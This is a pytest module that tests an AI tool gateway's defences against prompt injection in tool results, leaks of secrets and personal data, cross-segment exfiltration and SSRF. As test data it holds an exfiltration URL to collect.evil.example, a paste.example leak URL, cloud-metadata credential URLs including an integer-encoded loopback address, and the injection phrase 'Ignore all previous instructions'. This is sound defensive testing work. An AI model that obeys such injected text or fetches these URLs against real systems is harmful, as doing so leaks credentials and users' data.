"""Data leaving where it must not (T10 prompt injection via results, T11
secret and PII exfiltration, T12 lateral movement across segments, T16 SSRF
through a fetch-like tool), end to end with the official SDK client over mTLS.

Upstreams, each behind a tee recording what the gateway sent it:
server-everything (honest); tests/attacks/peers/leaky_py.py (``leaky``:
credentials and personal data in results, a prompt injection in an email);
tests/attacks/peers/fetch_py.py twice: ``web`` (labelled ``egress``, segment
B) and ``fetcher`` (unlabelled), each appending the URLs it is asked for to
its own file.

One gateway for the module: the default policy pack (no ``[policy] files``),
``taint_labels = ["confidential", "injected"]``, segment A ``customers``
(``leaky__get_customer``, confidential) and segment B ``outbound``
(``web__fetch``, egress); results: secrets and personal data redacted;
arguments: secrets blocked; injection markers flagged.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from attack_fixtures import POLICY_DENIED
from attack_fixtures import (
    Agents, AttackGateway, Upstream, connect, error_of, gateway_fixture, outcome, peer, start_gateway, text, segment,
)
from conftest import NODE
from identity_fixtures import Pki
from leaky_py import AWS_KEY_ID, PII_VALUES, SECRET_VALUES

pytestmark = pytest.mark.anyio

EGRESS_DENIED = "Denied by policy: this session has read confidential data and may not use egress tools"

BODY = """
[policy]
taint_labels = ["confidential", "injected"]

[inspection]
results = { secrets = "redact", pii = "redact" }
arguments = { secrets = "block" }
injection = "flag"
""" + segment("customers", "confidential", "leaky__get_customer") + segment("outbound", "egress", "web__fetch")


@pytest.fixture(scope="module")
def gw(pki: Pki, everything_js: Path, logs_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[AttackGateway]:
    work = tmp_path_factory.mktemp("attacks-exfil")
    yield from gateway_fixture(
        start_gateway(
            "exfil",
            work,
            logs_dir,
            pki,
            [
                Upstream("everything", [NODE, str(everything_js), "stdio"]),
                Upstream("leaky", peer("leaky_py")),
                Upstream("web", peer("fetch_py"), env={"FETCH_LOG": str(work / "web-urls.txt")}),
                Upstream("fetcher", peer("fetch_py"), env={"FETCH_LOG": str(work / "fetcher-urls.txt")}),
            ],
            body=BODY,
        )
    )


def fetched(gw: AttackGateway, upstream: str) -> list[str]:
    """URLs the fetch server ``upstream`` was asked for (its own log)."""
    try:
        return (gw.work / f"{upstream}-urls.txt").read_text().splitlines()
    except FileNotFoundError:
        return []


def egress_denial(gw: AttackGateway, agent: str) -> list[dict]:
    return [r for r in gw.decisions(agent, "web__fetch") if r["decision"] == "deny"]


# ---------------------------------------------------------------- T10 ----


async def test_t10_injection_in_a_result_taints_the_session_against_egress(gw: AttackGateway, agents: Agents) -> None:
    """The agent reads an email whose body orders it to send the conversation to
    collect.evil.example with the fetch tool. The result is flagged (audited as
    an injection finding), the session gets the ``injected`` label, and the
    ordered egress call is refused with -32030 and never reaches the fetch
    server. A fresh session of the same agent, and another agent, may fetch."""
    exfil = "https://collect.evil.example/upload?c=t10-conversation"
    async with connect(gw, agents("t10-agent")) as c, connect(gw, agents("t10-other")) as other:
        ok_before = await outcome(c.call_tool("web__fetch", {"url": "https://example.com/t10-before"}))
        mail = await outcome(c.call_tool("leaky__read_inbox", {}))
        denied = await outcome(c.call_tool("web__fetch", {"url": exfil}))
        still = await outcome(c.call_tool("everything__echo", {"message": "t10-still"}))
        other_ok = await outcome(other.call_tool("web__fetch", {"url": "https://example.com/t10-other"}))
    async with connect(gw, agents("t10-agent")) as fresh:
        fresh_ok = await outcome(fresh.call_tool("web__fetch", {"url": "https://example.com/t10-fresh"}))

    assert "example.com/t10-before" in text(ok_before)
    assert "Ignore all previous instructions" in text(mail), "flag mode leaves the text as is"
    err = error_of(denied, "web__fetch")
    assert (err.code, err.message) == (POLICY_DENIED, EGRESS_DENIED), err
    assert text(still) == "Echo: t10-still"
    assert "t10-other" in text(other_ok) and "t10-fresh" in text(fresh_ok)

    urls = fetched(gw, "web")
    assert exfil not in urls and "t10-conversation" not in gw.received("web"), urls
    assert {"https://example.com/t10-before", "https://example.com/t10-other", "https://example.com/t10-fresh"} <= set(urls), urls

    inject = [r for r in gw.findings("inject") if r.get("tool") == "leaky__read_inbox" and "t10-agent" in r["identity"]["key"]]
    assert any(r["rule"] == "inject.ignore-previous" for r in inject), inject
    deny = egress_denial(gw, "t10-agent")
    assert len(deny) == 1 and deny[0]["policies"] == ["no-egress-after-confidential"], deny
    assert not egress_denial(gw, "t10-other")


# ---------------------------------------------------------------- T11 ----


async def test_t11_secrets_and_personal_data_in_results_are_redacted(gw: AttackGateway, agents: Agents) -> None:
    """The leaky server returns credentials and a customer's personal data. The
    agent gets ``[REDACTED:<detector>]`` in place of each value, the JSON kept;
    each finding is audited (detector, class, action) without the value, and
    neither the audit log nor the gateway's log holds any of the values."""
    async with connect(gw, agents("t11-reader")) as c:
        config = json.loads(text(await c.call_tool("leaky__get_config", {})))
        customer = json.loads(text(await c.call_tool("leaky__get_customer", {"customer_id": "t11-c1"})))

    assert config["AWS_ACCESS_KEY_ID"] == "[REDACTED:aws-access-key-id]", config
    assert config["AWS_SECRET_ACCESS_KEY"] == "[REDACTED:aws-secret-access-key]", config
    assert config["GITHUB_TOKEN"] == "[REDACTED:github-token]", config
    assert config["DATABASE_URL"] == "postgres://app:[REDACTED:url-credentials]@db.internal:5432/app", config
    assert config["region"] == "eu-west-1", "ordinary values pass"
    assert customer["email"] == "[REDACTED:email]", customer
    assert customer["card"] == "[REDACTED:payment-card]", customer
    assert customer["iban"] == "[REDACTED:iban]", customer
    assert customer["id"] == "t11-c1" and customer["name"] == "Maria Lopez", customer

    mine = [r for r in gw.findings("dlp") if "t11-reader" in r["identity"]["key"] and r["detail"]["direction"] == "result"]
    got = {(r["tool"], r["rule"], r["detail"]["class"], r["detail"]["action"]) for r in mine}
    for rule in ("aws-access-key-id", "aws-secret-access-key", "github-token", "url-credentials"):
        assert ("leaky__get_config", rule, "secrets", "redact") in got, sorted(got)
    for rule in ("email", "payment-card", "iban"):
        assert ("leaky__get_customer", rule, "pii", "redact") in got, sorted(got)
    for where, blob in (("audit log", gw.audit.read_text()), ("gateway log", gw.log_text())):
        for value in (*SECRET_VALUES, *PII_VALUES):
            assert value not in blob, f"the {where} holds {value[:6]}…"


async def test_t11_a_secret_in_the_arguments_never_reaches_the_upstream(gw: AttackGateway, agents: Agents) -> None:
    """An agent talked into posting an AWS key to a note tool: refused with
    -32030 (``data.reason = "dlp"``, ``data.classes = ["secrets"]``) before the
    upstream; the finding is audited (direction arguments, action block) without
    the key; the same session's ordinary note goes through."""
    async with connect(gw, agents("t11-sender")) as c:
        refused = await outcome(c.call_tool("leaky__save_note", {"text": f"t11-exfil key {AWS_KEY_ID}"}))
        ok = await outcome(c.call_tool("leaky__save_note", {"text": "t11-ordinary note"}))

    err = error_of(refused, "leaky__save_note")
    assert err.code == POLICY_DENIED, err
    assert err.data["reason"] == "dlp" and err.data["classes"] == ["secrets"], err.data
    assert AWS_KEY_ID not in f"{err.message} {err.data!r}"
    assert text(ok) == "leaky:saved t11-ordinary note"
    received = gw.received("leaky")
    assert "t11-exfil" not in received and AWS_KEY_ID not in received
    found = [r for r in gw.findings("dlp") if "t11-sender" in r["identity"]["key"] and r["detail"]["direction"] == "arguments"]
    assert any(r["rule"] == "aws-access-key-id" and r["detail"]["action"] == "block" for r in found), found
    assert AWS_KEY_ID not in gw.audit.read_text()


# ---------------------------------------------------------------- T12 ----


async def test_t12_confidential_read_in_one_segment_blocks_egress_in_another(gw: AttackGateway, agents: Agents) -> None:
    """Lateral movement: the agent reads a customer record (segment A, leaky,
    confidential) and then tries to send it out through the fetch server
    (segment B, web, egress). The egress call is refused with -32030 and never
    reaches the fetch server; the denial is audited with the flow policy's id.
    Another agent's session, open at the same time, fetches unhindered."""
    leak = "https://paste.example/t12?email=maria"
    async with connect(gw, agents("t12-agent")) as c, connect(gw, agents("t12-other")) as other:
        record = await outcome(c.call_tool("leaky__get_customer", {"customer_id": "t12-c1"}))
        denied = await outcome(c.call_tool("web__fetch", {"url": leak}))
        other_ok = await outcome(other.call_tool("web__fetch", {"url": "https://example.com/t12-other"}))
        again = await outcome(c.call_tool("web__fetch", {"url": leak + "-again"}))

    assert "t12-c1" in text(record)
    for e in (denied, again):
        err = error_of(e, "web__fetch")
        assert (err.code, err.message) == (POLICY_DENIED, EGRESS_DENIED), err
    assert "t12-other" in text(other_ok)
    urls = fetched(gw, "web")
    assert "https://example.com/t12-other" in urls and not [u for u in urls if "t12?email" in u], urls
    read = [r for r in gw.decisions("t12-agent", "leaky__get_customer") if r["decision"] == "allow"]
    assert read, "the confidential read is audited"
    deny = egress_denial(gw, "t12-agent")
    assert len(deny) == 2 and all(r["policies"] == ["no-egress-after-confidential"] for r in deny), deny
    assert [r["decision"] for r in gw.decisions("t12-other", "web__fetch")] == ["allow"]


# ---------------------------------------------------------------- T16 ----

METADATA_URLS = (
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://2130706433/admin",
)


async def test_t16_ssrf_to_metadata_addresses_is_refused_before_the_fetch_tool(gw: AttackGateway, agents: Agents) -> None:
    """A prompt-injected agent asks an (unlabelled) fetch tool for cloud
    metadata: 169.254.169.254, metadata.google.internal, and 127.0.0.1 spelled
    as the integer 2130706433. The default pack refuses each with -32030 and
    the id ``no-internal-address-arguments``; the fetch server never sees them.
    An ordinary public URL is forwarded before and after, and another agent is
    unaffected. An internal address for the egress-labelled tool is refused
    by ``no-internal-address-egress``."""
    async with connect(gw, agents("t16-agent")) as c, connect(gw, agents("t16-other")) as other:
        before = await outcome(c.call_tool("fetcher__fetch", {"url": "http://example.com/t16-before"}))
        tries = {url: await outcome(c.call_tool("fetcher__fetch", {"url": url})) for url in METADATA_URLS}
        after = await outcome(c.call_tool("fetcher__fetch", {"url": "http://example.com/t16-after"}))
        internal = await outcome(other.call_tool("web__fetch", {"url": "http://10.0.0.7/t16-internal"}))
        other_ok = await outcome(other.call_tool("fetcher__fetch", {"url": "http://example.com/t16-other"}))

    for url, e in tries.items():
        err = error_of(e, url)
        assert err.code == POLICY_DENIED, (url, err)
        assert err.message == "Denied by policy: the arguments point at a link-local, metadata or disguised internal address", err
    err = error_of(internal, "web__fetch 10.0.0.7")
    assert err.code == POLICY_DENIED and "internal address" in err.message, err
    for r in (before, after, other_ok):
        assert text(r).startswith("fetch:page http://example.com/t16-"), r

    assert fetched(gw, "fetcher") == ["http://example.com/t16-before", "http://example.com/t16-after", "http://example.com/t16-other"]
    assert "t16-internal" not in gw.received("web")
    for host in ("169.254.169.254", "metadata.google.internal", "2130706433"):
        assert host not in gw.received("fetcher"), f"{host} reached the fetch server"

    deny = [r for r in gw.decisions("t16-agent", "fetcher__fetch") if r["decision"] == "deny"]
    assert len(deny) == len(METADATA_URLS), deny
    assert all(r["policies"] == ["no-internal-address-arguments"] for r in deny), deny
    egress = [r for r in gw.decisions("t16-other", "web__fetch") if r["decision"] == "deny"]
    assert len(egress) == 1 and "no-internal-address-egress" in egress[0]["policies"], egress
    assert [r["decision"] for r in gw.decisions("t16-other", "fetcher__fetch")] == ["allow"]
